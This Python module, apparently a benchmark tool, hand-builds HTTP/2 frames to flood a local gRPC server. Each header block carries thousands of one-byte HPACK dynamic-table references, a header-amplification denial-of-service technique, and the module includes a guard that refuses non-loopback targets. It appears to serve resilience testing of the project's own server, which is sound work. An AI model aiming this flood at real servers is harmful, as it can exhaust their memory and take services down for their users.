"""Header floods by one who has no credential: HTTP/2 by hand, from the preface on. The standard library only.

    result = Flood(("127.0.0.1", 50051), tls="ca.pem").run()
    python -m bench.http2_flood 127.0.0.1:50051 --ca ca.pem --connections 10

A flood is bounded in frames and in seconds. It may only be aimed at this machine.
"""

from __future__ import annotations

import argparse
import ipaddress
import socket
import ssl
import struct
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from dataclasses import dataclass, field
from typing import Literal

# RFC 9113: types of frames, and flags.
DATA, HEADERS, SETTINGS, CONTINUATION = 0x0, 0x1, 0x4, 0x9
ACK = END_STREAM = 0x1
END_HEADERS = 0x4

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
LARGEST_FRAME = 16_384
# The newest entry of the dynamic table, in one byte (RFC 7541, 6.1).
_REFERENCE = b"\xbe"

Settle = Literal["never", "at once", "first"]
"""When the server's SETTINGS are acknowledged: never, without waiting for them, or before anything else is sent."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes, *, indexed: bool = False) -> bytes:
    """Return a header field as a literal, whose name and value are shorter than 127 bytes (RFC 7541, 6.2)."""
    return (b"\x40" if indexed else b"\x00") + b"".join(bytes((len(text),)) + text for text in (name, value))


def request(path: bytes, authority: bytes = b"localhost") -> bytes:
    """Return the header block of a call, which puts nothing into the dynamic table."""
    pairs = ((b":path", path), (b":authority", authority), (b"content-type", b"application/grpc"), (b"te", b"trailers"))
    return b"\x83\x86" + b"".join(literal(name, value) for name, value in pairs)


def blocks(stream: int, block: bytes) -> bytes:
    """Return a header block as one HEADERS frame, and CONTINUATION frames if it is too long for that."""
    pieces = [block[at : at + LARGEST_FRAME] for at in range(0, len(block), LARGEST_FRAME)]
    kinds = [HEADERS] + [CONTINUATION] * (len(pieces) - 1)
    flags = [0] * (len(pieces) - 1) + [END_HEADERS]
    return b"".join(frame(*each, stream, piece) for *each, piece in zip(kinds, flags, pieces, strict=True))


@dataclass
class Result:
    """The figures of a flood."""

    frames: int = 0
    """Header blocks that were written, as far as the kernel took them."""
    disconnected: int = 0
    """Connections that the server closed."""
    connections: int = 0
    errors: list[str] = field(default_factory=list)


@dataclass(frozen=True)
class Flood:
    """Connections that send header blocks of one-byte references, each worth a header to its reader."""

    address: tuple[str, int] | str
    """Host and port, or the path of a unix socket."""
    tls: str | None = None
    """The authority (PEM) by which the server's certificate is known; None: plaintext."""
    connections: int = 1
    frames: int = 1_500
    """Header blocks in all, shared among the connections."""
    references: int = 12_000
    """In one block. 270,000 need CONTINUATION frames."""
    settle: Settle = "never"
    path: bytes = b"/rexec.v1.ExecutionService/Poll"
    seconds: float = 30.0
    """The longest that it takes, waiting for the server to close the connections included."""
    linger: bool = True
    """True to stay connected after the last frame, until the server closes or `seconds` are over."""

    def run(self, stop: threading.Event | None = None) -> Result:
        """Flood until all is sent, the server closed every connection, `stop` is set, or the time is over."""
        _check_local(self.address)
        result = Result(connections=self.connections)
        until, share = time.monotonic() + self.seconds, -(-self.frames // self.connections)
        stop = stop or threading.Event()
        with ThreadPoolExecutor(self.connections) as pool:
            for one in [pool.submit(self._flood, share, until, stop, result) for _ in range(self.connections)]:
                one.result()
        return result

    def _flood(self, share: int, until: float, stop: threading.Event, result: Result) -> None:
        try:
            with self._connect(until) as sock:
                self._open(sock)
                for number in range(share):
                    if stop.is_set() or time.monotonic() > until:
                        return
                    sock.settimeout(max(0.01, until - time.monotonic()))
                    sock.sendall(self._block(number))
                    result.frames += 1
                while self.linger and not stop.is_set() and time.monotonic() < until:
                    sock.settimeout(0.2)
                    with suppress(TimeoutError):
                        if not sock.recv(65_536):
                            result.disconnected += 1
                            return
        except TimeoutError:
            result.errors.append("the server takes no more")
        except OSError as error:  # a reset, or TLS that ends without a word
            result.disconnected += 1
            result.errors.append(str(error))

    def _block(self, number: int) -> bytes:
        seed = literal(b"x-flood", b"0123456789012345678901", indexed=True) if number == 0 else b""
        return blocks(2 * number + 1, request(self.path) + seed + _REFERENCE * self.references)

    def _open(self, sock: socket.socket) -> None:
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        if self.settle == "first":
            _await_settings(sock)
        if self.settle != "never":
            sock.sendall(frame(SETTINGS, ACK, 0))

    def _connect(self, until: float) -> socket.socket:
        seconds = max(0.01, until - time.monotonic())
        if isinstance(self.address, str):
            sock = socket.socket(socket.AF_UNIX)
            sock.settimeout(seconds)
            sock.connect(self.address)
            return sock
        sock = socket.create_connection(self.address, timeout=seconds)
        if self.tls is None:
            return sock
        context = ssl.create_default_context(cafile=self.tls)
        context.set_alpn_protocols(["h2"])
        return context.wrap_socket(sock, server_hostname=self.address[0])


def _await_settings(sock: socket.socket) -> None:
    """Reads the server's first frame, which is its SETTINGS."""
    received = b""
    while len(received) < 9 or len(received) < 9 + int.from_bytes(received[:3]):
        data = sock.recv(65_536)
        if not data:
            raise ConnectionResetError("the server closed before it had said a word")
        received += data


def _check_local(address: tuple[str, int] | str) -> None:
    """Raise ValueError for another machine's address."""
    if not isinstance(address, str) and not ipaddress.ip_address(address[0]).is_loopback:
        raise ValueError(f"{address[0]} is not this machine; a flood goes to a loopback address or a unix socket")


def main() -> None:
    parser = argparse.ArgumentParser(
        description="Floods a server on this machine with headers, and says what came of it."
    )
    parser.add_argument("address", help="ADDRESS:PORT or unix:PATH")
    parser.add_argument("--ca", help="TLS, with a certificate of this authority (PEM)")
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--frames", type=int, default=1_500)
    parser.add_argument("--references", type=int, default=12_000)
    parser.add_argument("--settle", choices=["never", "at once", "first"], default="never")
    parser.add_argument("--seconds", type=float, default=30.0)
    options = parser.parse_args()
    host, _, port = options.address.rpartition(":")
    address = port if host == "unix" else (host.strip("[]"), int(port))
    print(Flood(address, options.ca, options.connections, options.frames, options.references, options.settle,
                seconds=options.seconds).run())  # fmt: skip


if __name__ == "__main__":
    main()
